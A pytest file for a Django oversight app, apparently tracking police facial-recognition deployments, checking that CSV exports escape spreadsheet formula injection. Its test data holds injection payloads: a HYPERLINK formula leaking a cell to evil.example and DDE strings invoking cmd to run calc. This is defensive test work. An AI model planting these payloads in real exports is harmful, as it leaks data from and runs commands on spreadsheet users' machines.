"""No CSV the product writes can run a formula in a spreadsheet: a text cell beginning with = + - @, a tab or a
carriage return is written with a leading apostrophe (shown as text, hidden by spreadsheets); numbers are
left alone. One writer does it for every CSV (oversight/csv_export.py)."""
from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
from django.test import Client
from django.utils import timezone

from deployments import services as deployment_services
from oversight.csv_export import csv_bytes, csv_cell
from oversight.transparency import services as transparency_services
from tests.deployments.factories import lfr_deployment

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize("text", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
                                  "\t=1+1", "\r=1+1"])
def test_a_text_cell_that_a_spreadsheet_would_run_is_written_as_text(text):
    assert csv_cell(text) == "'" + text
    rows = list(csv.reader(io.StringIO(csv_bytes(["area"], [[text]]).decode(), newline="")))
    assert rows == [["area"], ["'" + text]]


@pytest.mark.parametrize("value,written", [(-5, "-5"), (-0.25, "-0.25"), (0, "0"), (True, "true"), (None, ""),
                                           ("Worcester, Foregate Street", "Worcester, Foregate Street"),
                                           ("a=b", "a=b"), ("", "")])
def test_numbers_and_ordinary_text_are_written_as_they_are(value, written):
    assert csv_cell(value) == written


def test_the_public_deployment_log_csv_escapes_a_formula_in_the_area_and_purpose(personas):
    p = personas
    deployment = lfr_deployment(force=p.force_a, operator=p.operator_a, approver=p.approver_a, stage="draft",
                                entries=1, starts_in=timedelta(minutes=5))
    deployment_services.deployment_update(actor=p.operator_a, deployment=deployment, changes={
        "policing_objective": HYPERLINK + " Locate people wanted for serious violence.",
        "location_name": "@SUM(1+1) New Street concourse"})
    deployment_services.deployment_submit(actor=p.operator_a, deployment=deployment)
    deployment_services.deployment_authorise(actor=p.approver_a, deployment=deployment,
                                             reasons="Necessary and proportionate: nothing less intrusive works.")
    deployment_services.deployment_activate(actor=p.operator_a, deployment=deployment)
    today = timezone.localdate()
    draft = transparency_services.transparency_report_prepare(
        actor=p.admin_a, force=p.force_a, period_start=today.replace(day=1), period_end=_month_end(today))
    report = transparency_services.transparency_report_publish(actor=p.oversight_admin, report=draft)

    response = Client().get(f"/transparency/reports/{report.pk}/report.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    row = next(r for r in rows if r["reference"] == f"LFR-{deployment.pk}")
    assert row["purpose"].startswith("'=HYPERLINK(")
    assert row["area"].startswith("'@SUM(1+1)")
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for r in rows for cell in r.values())
    assert row["watchlist_size"] == "1"  # numbers untouched


def _month_end(day: date) -> date:
    following = (day.replace(day=28) + timedelta(days=4)).replace(day=1)
    return following - timedelta(days=1)
